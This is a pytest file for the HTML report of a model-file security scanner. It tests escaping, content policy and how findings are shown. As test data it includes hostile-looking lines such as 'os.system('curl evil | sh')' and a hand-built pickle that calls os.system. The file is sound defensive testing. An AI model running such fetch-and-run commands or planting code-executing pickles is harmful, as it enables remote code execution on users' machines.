"""The HTML report: valid, complete in itself, closed to what files say, and made from one reading of the files."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import subprocess
import sys
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_report import detail, everything, examined, passing, render, unmet, weigh
from test_report_formats import HOSTILE, hostile, triaged, without_files

from weighbridge.detail import Detail, Import, Listing, Share, Weights
from weighbridge.facts import Tensor
from weighbridge.inspection import LISTINGS
from weighbridge.judgement import Judgement
from weighbridge.location import Location, printable
from weighbridge.pipeline import scan
from weighbridge.policy import Verdict, refuse
from weighbridge.records import replace
from weighbridge.report.base import Style
from weighbridge.report.html import render as render_html
from weighbridge.report.html.charts import WIDTH, bar, share
from weighbridge.report.html.markup import Markup, element, text
from weighbridge.second_opinion import LISTING_LIMIT

FIXTURES = Path(__file__).parent.parent / "fixtures"
ELEMENTS = {
    *"html head meta title link style body a header svg circle path rect div p h1 h2 h3 code dl dt dd nav".split(),
    *"ul ol li b span main section article pre small details summary table caption thead tbody tr th td".split(),
    *"time footer".split(),
}
# Of which none can run anything, or fetch anything but where a person clicks.
ATTRIBUTES = {
    *"lang charset http-equiv content name rel href class id aria-label aria-labelledby aria-hidden role".split(),
    *"open scope".split(),
    *"viewbox preserveaspectratio x y width height cx cy r d datetime".split(),
}
VERDICTS = {
    "everything": everything(),
    "passing": passing(),
    "no file": without_files(),
    "triaged": triaged(),
    "refused": refuse(passing(), unmet()),
    **{f"hostile {number}": hostile(said) for number, said in enumerate(HOSTILE)},
}


class Page(HTMLParser):
    """The elements, links and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.ids: list[str] = []
        self.links: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            self.attributes.add(name)
            if name == "id":
                self.ids.append(value or "")
            if name in ("href", "src"):
                self.links.append(value or "")

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.parametrize("verdict", VERDICTS.values(), ids=VERDICTS)
def test_the_page_is_valid_and_made_of_nothing_that_acts(verdict: Verdict) -> None:
    page = render("html", verdict)
    html5lib.HTMLParser(strict=True).parse(page)
    parsed = Page(page)
    assert set(parsed.tags) <= ELEMENTS
    assert parsed.attributes <= ATTRIBUTES
    assert len(set(parsed.ids)) == len(parsed.ids)
    for link in parsed.links:
        assert link.startswith(
            ("#", "https://cwe.mitre.org/", "https://atlas.mitre.org/", "https://nvd.nist.gov/", "data:")
        )
        assert not link.startswith("#") or link[1:] in parsed.ids
    assert parsed.tags.count("link") == 1


@given(said=st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(codec=None), max_size=40)))
def test_what_a_file_says_is_shown_and_nothing_more(said: str) -> None:
    verdict = hostile(said)
    verdict = replace(verdict, files=tuple(replace(file, detail=detail(said, said)) for file in verdict.files))
    parsed = Page(render("html", verdict))
    ordinary = hostile("x")
    ordinary = replace(ordinary, files=tuple(replace(file, detail=detail("x", "x")) for file in ordinary.files))
    assert set(parsed.tags) == set(Page(render("html", ordinary)).tags)
    assert parsed.attributes <= ATTRIBUTES
    assert printable(said) in parsed.text


@pytest.mark.parametrize("verdict", [everything(), passing()], ids=["everything", "passing"])
def test_the_security_policy_allows_the_style_of_the_page_and_nothing_else(verdict: Verdict) -> None:
    page = render("html", verdict)
    (style,) = re.findall("<style>(.*?)</style>", page, re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    (policy,) = re.findall('http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert policy.replace("&#x27;", "'") == (
        f"default-src 'none'; style-src 'sha256-{digest}'; img-src data:; base-uri 'none'; form-action 'none'"
    )
    assert page.index("Content-Security-Policy") < page.index("<style>")
    assert not re.search(r"url\(|@import|@font-face", style)


def test_everything_that_was_asked_for_is_on_the_page() -> None:
    shown = " ".join(Page(render("html", everything())).text.split())
    for said in (
        "43 findings at or above high",
        "os.system('curl evil | sh')",
        "and 41 more times in the same part",
        "models/a b.pt!archive/data.pkl@0x2f",
        "written 'posix system'",
        "Ask for safetensors.",
        "no trust entry names it",
        "zip: the CRC is wrong",
        "--max-members",
        "accepted by the team until 2026-07-01: known",
        "expired, until 2020-01-01",
        "from os import system",
        "collections.OrderedDict",
        "97ff8a35544dcf40ad84047074439dd6aa3a0be469ea578a1b1c017d939ec61c",
        "the labrelease@lab.exampleissuer https://accounts.example",
        "layer.curl <evil>",
        "2 \u00d7 3",
        "F32",
        "fickling 0.1",
        "Resolved by hub2026-01-30 00:00:00 UTC",
    ):
        assert said in shown, said
    judged = " ".join(Page(render("html", passing())).text.split())
    assert "Scanned by Weighbridge 1.2.3" in judged
    assert "Judged: pass by policy default" in judged
    assert "Judged" not in shown, "the history says all"


def test_a_line_of_code_with_a_name_that_is_not_trusted_stands_out() -> None:
    page = render("html", everything())
    hot = re.findall('<span class="line hot">(.*?)</span>', page)
    assert hot[:2] == ["from os import system", "result = system(&#x27;curl &lt;evil&gt;&#x27;)"]


def test_the_page_is_bounded_however_much_is_found() -> None:
    tensor = Tensor(location=Location(("a",)), name="w", dtype="F32", shape=(1,), size=4)
    listing = Listing(
        location=Location(("a",)), protocol=2, size=1, complete=False, decompiled=False, lines=("x = 1",) * 9999
    )
    much = Detail(
        imports=tuple(Import(name=f"m.n{n}", status="unknown", uses=1, because="") for n in range(5000)),
        listings=(listing,) * LISTINGS,
        weights=Weights(
            count=10**6,
            size=4 * 10**6,
            shares=tuple(Share(dtype=f"T{n}", count=1, size=n) for n in range(50)),
            largest=(tensor,) * 100,
        ),
    )
    verdict = weigh(*(examined(f"{n}.pt", Judgement(), parsed=1) for n in range(3000)))
    files = tuple(replace(file, detail=much if number < 4 else None) for number, file in enumerate(verdict.files))
    page = render("html", replace(verdict, files=files))
    assert len(page) < 2 << 20
    for said in ("and 2 000 more files", "and 4 700 more names", "and 9 699 more lines", "others"):
        assert said in page


def test_text_is_never_markup_unless_it_was_made_here() -> None:
    assert element("p", "<b>", element("i", "&")) == "<p>&lt;b&gt;<i>&amp;</i></p>"
    assert element("p", title='"><script>', hidden=None) == '<p title="&quot;&gt;&lt;script&gt;"></p>'
    assert text("\u202e") == "\\u202e"
    assert isinstance(text("x"), Markup)


@given(sizes=st.lists(st.integers(min_value=0, max_value=1 << 50), min_size=1, max_size=6))
def test_the_parts_of_a_bar_fill_it(sizes: list[int]) -> None:
    drawn = bar([("k", "n", size) for size in sizes], "l")
    rects = [(int(x), int(width)) for x, width in re.findall(r'<rect class="k" x="(\d+)" y="0" width="(\d+)"', drawn)]
    assert len(rects) == sum(size > 0 for size in sizes)
    if rects:
        assert all(begin + width == next_ for (begin, width), (next_, _) in pairwise(rects))
        assert rects[0][0] == 0
        assert sum(rects[-1]) == WIDTH


def test_a_share_says_neither_all_nor_nothing_of_what_is_not() -> None:
    assert [share(part, 10**6) for part in (0, 1, 999_999, 10**6)] == ["0 %", "< 0.1 %", "99.9 %", "100 %"]
    assert share(0, 0) == "0 %"


def test_a_scan_makes_what_the_page_shows_only_when_asked() -> None:
    path = FIXTURES / "pickle/os_system.pkl"
    assert scan([path]).files[0].detail is None
    verdict = scan([path], detail=True)
    made = verdict.files[0].detail
    assert made is not None
    assert [(one.name, one.status) for one in made.imports] == [("os.system", "dangerous")]
    (listing,) = made.listings
    assert listing.decompiled
    assert "system('echo weighbridge')" in "\n".join(listing.lines)
    assert "system(&#x27;echo weighbridge&#x27;)" in "\n".join(render_html(verdict, Style()))


def test_a_checkpoint_is_shown_with_its_tensors_and_without_code() -> None:
    made = scan([FIXTURES / "torch/state_dict.pt"], detail=True).files[0].detail
    assert made is not None and made.weights is not None
    assert made.listings == ()
    assert made.weights.count == len(made.weights.largest) > 0
    assert sum(one.size for one in made.weights.shares) == made.weights.size


def test_details_survive_the_way_from_another_process() -> None:
    paths = [FIXTURES / "pickle/os_system.pkl", FIXTURES / "torch/state_dict.pt"]
    alone, shared = scan(paths, detail=True), scan(paths, detail=True, jobs=2)
    assert alone == shared
    assert any(file.detail and file.detail.listings for file in shared.files)


def test_of_many_pickles_few_are_decompiled_and_the_others_shown_by_their_steps(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("weighbridge.inspection.LISTED", 2)
    monkeypatch.setattr("weighbridge.report.html.findings.LISTED", 2)
    for number in range(5):
        (tmp_path / f"{number:02}.pkl").write_bytes((FIXTURES / "pickle/os_system.pkl").read_bytes())
    alone, shared = scan([tmp_path], detail=True), scan([tmp_path], detail=True, jobs=2)
    assert alone == shared
    listings = [file.detail.listings[0] for file in shared.files if file.detail is not None]
    assert [listing.decompiled for listing in listings] == [True] * 2 + [False] * 3
    assert listings[-1].lines == ("os.system", "os.system('echo weighbridge')")
    assert not any(listing.pickle for listing in listings)
    assert "and 3 more pickles" in render("html", shared)


def test_a_pickle_of_which_the_decompiler_warns_is_shown_all_the_same() -> None:
    made = scan([FIXTURES / "pickle/computed_name.pkl"], detail=True).files[0].detail
    assert made is not None
    assert made.listings[0].decompiled


def test_a_pickle_too_large_for_the_decompiler_is_shown_by_what_nobody_trusts(tmp_path: Path) -> None:
    plain, system = padding(LISTING_LIMIT), b"cos\nsystem\n(S'true'\ntR."
    (tmp_path / "large.pkl").write_bytes(plain + system)
    made = scan([tmp_path / "large.pkl"], detail=True).files[0].detail
    assert made is not None
    assert not made.listings[0].decompiled
    assert made.listings[0].lines == ("os.system", "os.system('true')")


def padding(size: int) -> bytes:
    """Return opcodes that put many numbers on the stack of a pickle and take them off again."""
    return b"".join(b"I%d\n0" % number for number in range(size // 4))


def command(*arguments: str, epoch: str = "1700000000") -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "SOURCE_DATE_EPOCH": epoch}
    return subprocess.run(
        [sys.executable, "-m", "weighbridge", "scan", *arguments],
        capture_output=True,
        text=True,
        check=False,
        env=environment,
    )


def test_the_command_writes_the_page_beside_another_report(tmp_path: Path) -> None:
    page, path = tmp_path / "report.html", str(FIXTURES / "pickle/os_system.pkl")
    done = command(path, "--format", "text", "--quiet", "--format", "html", "--output", str(page))
    assert (done.returncode, done.stdout.startswith("fail: ")) == (1, True), done.stderr
    shown = Page(page.read_text(encoding="utf-8")).text
    assert "2023-11-14 22:13 UTC" in shown
    assert "from os import system" in shown


def test_a_time_that_is_none_is_a_usage_error() -> None:
    done = command(str(FIXTURES / "pickle/os_system.pkl"), "--format", "junit", epoch="yesterday")
    assert done.returncode == 2
    assert "SOURCE_DATE_EPOCH: 'yesterday' is no number of seconds since 1970" in done.stderr
